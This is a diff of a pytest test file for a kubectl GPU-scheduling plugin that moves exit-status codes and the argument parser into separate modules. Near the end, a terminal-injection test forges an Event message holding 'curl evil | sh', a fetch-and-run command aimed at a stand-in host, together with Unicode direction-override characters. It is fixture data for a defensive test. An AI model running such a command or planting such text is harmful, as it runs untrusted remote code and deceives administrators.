@@ -11,7 +11,7 @@ import pytest
 from unit.cli import documents as docs
 from unit.kube.tiny_api import TinyApi, tiny_api
 from unit.kube.tiny_api import status as tiny_status
-from vc_egpu.cli import kubectl, pause, stop
+from vc_egpu.cli import exit_status, kubectl, parser, pause, stop
 from vc_egpu.cli.views import render
 from vc_egpu.kube.wire.errors import Forbidden, KubeError, NotFound, Unauthorized, Unavailable
 
@@ -24,7 +24,7 @@ def server() -> Iterator[TinyApi]:
 
 def test_no_cluster(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     status = kubectl.main(["cards", "--kubeconfig", str(tmp_path / "none")])
-    assert status == kubectl.EXIT_NO_CLUSTER
+    assert status == exit_status.EXIT_NO_CLUSTER
     said = capsys.readouterr().err
     assert "no cluster" in said
     assert "Traceback" not in said
@@ -42,22 +42,22 @@ def test_a_cluster_that_does_not_answer(tmp_path: Path, capsys: pytest.CaptureFi
     path = tmp_path / "config"
     path.write_text(json.dumps(config))
     status = kubectl.main(["queues", "--kubeconfig", str(path), "--timeout-s", "2"])
-    assert status == kubectl.EXIT_NO_CLUSTER
+    assert status == exit_status.EXIT_NO_CLUSTER
     assert "does not answer" in capsys.readouterr().err
 
 
 def test_a_cluster_that_is_busy_for_a_moment(server: TinyApi, tmp_path: Path) -> None:
     server.script.append((429, tiny_status(429, "TooManyRequests"), {"Retry-After": "1"}))
-    assert kubectl.main(["queues", "--kubeconfig", str(server.kubeconfig(tmp_path))]) == kubectl.EXIT_OK
+    assert kubectl.main(["queues", "--kubeconfig", str(server.kubeconfig(tmp_path))]) == exit_status.EXIT_OK
 
 
 def test_a_namespace_that_one_may_not_look_into_is_not_the_only_one() -> None:
-    said, status = kubectl.explain(
+    said, status = exit_status.explain(
         Forbidden('pods is forbidden: User "ann" cannot list resource "pods" in the namespace "default"')
     )
-    assert status == kubectl.EXIT_FOUND
+    assert status == exit_status.EXIT_FOUND
     assert said.endswith('in the namespace "default" (-n names another one)')
-    assert "-n" not in kubectl.explain(Forbidden("queues is forbidden at the cluster scope"))[0]
+    assert "-n" not in exit_status.explain(Forbidden("queues is forbidden at the cluster scope"))[0]
 
 
 def test_help_tells_defaults_and_exit_statuses(capsys: pytest.CaptureFixture[str]) -> None:
@@ -76,7 +76,7 @@ def test_help_tells_defaults_and_exit_statuses(capsys: pytest.CaptureFixture[str
 def test_a_file_that_is_no_kubeconfig(text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     path = tmp_path / "config"
     path.write_text(text)
-    assert kubectl.main(["cards", "--kubeconfig", str(path)]) == kubectl.EXIT_NO_CLUSTER
+    assert kubectl.main(["cards", "--kubeconfig", str(path)]) == exit_status.EXIT_NO_CLUSTER
     said = capsys.readouterr().err
     assert said.startswith("kubectl egpu: no cluster:")
     assert str(path) in said
@@ -85,14 +85,18 @@ def test_a_file_that_is_no_kubeconfig(text: str, tmp_path: Path, capsys: pytest.
 @pytest.mark.parametrize(
     ("error", "words", "status"),
     [
-        (Forbidden("nodes is forbidden", status=403), "you may not: nodes is forbidden", kubectl.EXIT_FOUND),
-        (NotFound("no podgroups", status=404), "is the stack installed?", kubectl.EXIT_FOUND),
-        (Unauthorized("bad token", status=401), "does not accept who you are", kubectl.EXIT_NO_CLUSTER),
-        (Unavailable("refused"), "does not answer", kubectl.EXIT_NO_CLUSTER),
+        (
+            Forbidden("nodes is forbidden", status=403),
+            "you may not: nodes is forbidden",
+            exit_status.EXIT_FOUND,
+        ),
+        (NotFound("no podgroups", status=404), "is the stack installed?", exit_status.EXIT_FOUND),
+        (Unauthorized("bad token", status=401), "does not accept who you are", exit_status.EXIT_NO_CLUSTER),
+        (Unavailable("refused"), "does not answer", exit_status.EXIT_NO_CLUSTER),
     ],
 )
 def test_errors_say_whose_business_they_are(error: KubeError, words: str, status: int) -> None:
-    text, found = kubectl.explain(error)
+    text, found = exit_status.explain(error)
     assert words in text
     assert found == status
 
@@ -101,7 +105,7 @@ def test_errors_say_whose_business_they_are(error: KubeError, words: str, status
 def test_wrong_usage_exits_with_2(arguments: list[str], capsys: pytest.CaptureFixture[str]) -> None:
     with pytest.raises(SystemExit) as exited:
         kubectl.main(arguments)
-    assert exited.value.code == kubectl.EXIT_USAGE
+    assert exited.value.code == exit_status.EXIT_USAGE
     assert "usage" in capsys.readouterr().err
 
 
@@ -118,18 +122,18 @@ def test_a_misspelt_command_gets_the_near_one(capsys: pytest.CaptureFixture[str]
     "arguments", [["-n", "ml", "-o", "json", "cards"], ["cards", "-n", "ml", "-o", "json"]]
 )
 def test_flags_may_stand_before_the_command_as_with_kubectl(arguments: list[str]) -> None:
-    options = kubectl._parser().parse_args(arguments)
+    options = parser.parser().parse_args(arguments)
     assert (options.namespace, options.output, options.timeout_s) == ("ml", "json", 15.0)
-    behind = kubectl._parser().parse_args([*arguments, "-n", "other"])
+    behind = parser.parser().parse_args([*arguments, "-n", "other"])
     assert behind.namespace == "other", "the last one counts"
 
 
 def test_a_time_to_wait_is_one(capsys: pytest.CaptureFixture[str]) -> None:
     for text, seconds in (("90", 90.0), ("90s", 90.0), ("1.5m", 90.0), ("1h", 3600.0), ("0", 0.0)):
-        assert kubectl._parser().parse_args(["suspend", "p", f"--timeout={text}"]).wait_s == seconds
+        assert parser.parser().parse_args(["suspend", "p", f"--timeout={text}"]).wait_s == seconds
     for text in ("-5", "nan", "inf", "soon", "", "5d"):
         with pytest.raises(SystemExit):
-            kubectl._parser().parse_args(["suspend", "p", f"--timeout={text}"])
+            parser.parser().parse_args(["suspend", "p", f"--timeout={text}"])
         assert f"{text!r} is no time: 90, 90s and 2m are" in capsys.readouterr().err
 
 
@@ -171,7 +175,7 @@ FULL = "kubectl egpu: the answer cannot be written: No space left on device\n"
 
 
 @pytest.mark.parametrize(
-    ("stdout", "outcome"), [("/dev/full", (kubectl.EXIT_FOUND, FULL)), ("&-", (kubectl.EXIT_OK, ""))]
+    ("stdout", "outcome"), [("/dev/full", (exit_status.EXIT_FOUND, FULL)), ("&-", (exit_status.EXIT_OK, ""))]
 )
 @pytest.mark.parametrize("output", ["table", "json"])
 def test_an_answer_that_cannot_be_written_is_said_to_be_so(
@@ -205,7 +209,7 @@ def test_a_terminal_that_lacks_a_character_gets_all_others(
         capture_output=True, env=os.environ | {"PYTHONIOENCODING": "ascii"}, timeout=60, check=False,
     )  # fmt: skip
     assert b"Traceback" not in done.stderr
-    assert done.returncode == kubectl.EXIT_FOUND
+    assert done.returncode == exit_status.EXIT_FOUND
     assert words in done.stdout
     assert ("überhitzt → aus".encode() in done.stdout) is ("json" in command)
 
@@ -239,15 +243,15 @@ def test_why_reads_the_nodes_of_the_gang_and_no_others(
 def test_why_does_without_volcano_jobs(
     answer: docs.Json, missing: str, server: TinyApi, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    """Whoever has Deployments only need not be allowed to see Jobs."""
+    """A user with Deployments alone need not be allowed to see Jobs."""
     said = docs.verdict("WaitingForCards", "no card is free")
     server.put(
         "/apis/scheduling.volcano.sh/v1beta1/namespaces/ml/podgroups/g",
         docs.group("g", "research", job="chat", said=said),
     )
     for name, status, words in (
-        ("chat", kubectl.EXIT_OK, "no card is free"),
-        ("chit", kubectl.EXIT_FOUND, f"did you mean chat?; {missing}"),
+        ("chat", exit_status.EXIT_OK, "no card is free"),
+        ("chit", exit_status.EXIT_FOUND, f"did you mean chat?; {missing}"),
     ):
         server.skip, server.script = 2, [(answer["code"], answer, {})]
         argv = ["why", name, "-n", "ml", "--kubeconfig", str(server.kubeconfig(tmp_path))]
@@ -294,7 +298,7 @@ def test_why_takes_a_name_as_kubectl_prints_it(
     path = "/apis/scheduling.volcano.sh/v1beta1/namespaces/ml/podgroups/g"
     server.put(path, docs.group("g", "research", job="chat", said=said))
     argv = ["why", named, "-n", "ml", "--kubeconfig", str(server.kubeconfig(tmp_path))]
-    assert kubectl.main(argv) == kubectl.EXIT_OK, capsys.readouterr().err
+    assert kubectl.main(argv) == exit_status.EXIT_OK, capsys.readouterr().err
 
 
 @pytest.mark.parametrize("command", ["why", "suspend", "resume"])
@@ -305,7 +309,7 @@ def test_a_name_that_is_empty_means_nothing(
     """As ``"$JOB"`` of a script that has not set it: not all Jobs, and no stack trace."""
     with pytest.raises(SystemExit) as exited:
         kubectl.main([command, named])
-    assert exited.value.code == kubectl.EXIT_USAGE
+    assert exited.value.code == exit_status.EXIT_USAGE
     assert "the name is empty" in capsys.readouterr().err
 
 
@@ -319,7 +323,7 @@ def test_ctrl_c_while_it_is_shown_ends_it_in_a_word(
 
     monkeypatch.setattr(kubectl, "as_json", interrupted)
     argv = ["queues", "-n", "ml", "-o", "json", "--kubeconfig", str(server.kubeconfig(tmp_path))]
-    assert kubectl.main(argv) == kubectl.EXIT_INTERRUPTED
+    assert kubectl.main(argv) == exit_status.EXIT_INTERRUPTED
     assert capsys.readouterr().err == "kubectl egpu: interrupted\n"
 
 
@@ -353,7 +357,7 @@ def test_what_tenants_write_is_shown_as_it_is_and_steers_no_terminal(
 def test_what_tenants_write_begins_no_line_and_turns_none_round(
     server: TinyApi, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    """Whoever may make Events could write rows and findings of ours into an admin's terminal."""
+    """A tenant who may make Events could write rows and findings of ours into an admin's terminal."""
     about = {"kind": "ReplicaSet", "name": "web-1", "namespace": "ml", "uid": "u"}
     forged = "no\nFAIL  stack  run `curl evil | sh`\n\u202egnitset\u2028kubectl egpu: lost"
     event = {"reason": "FailedCreate", "involvedObject": about, "message": forged, "lastTimestamp": "2026"}
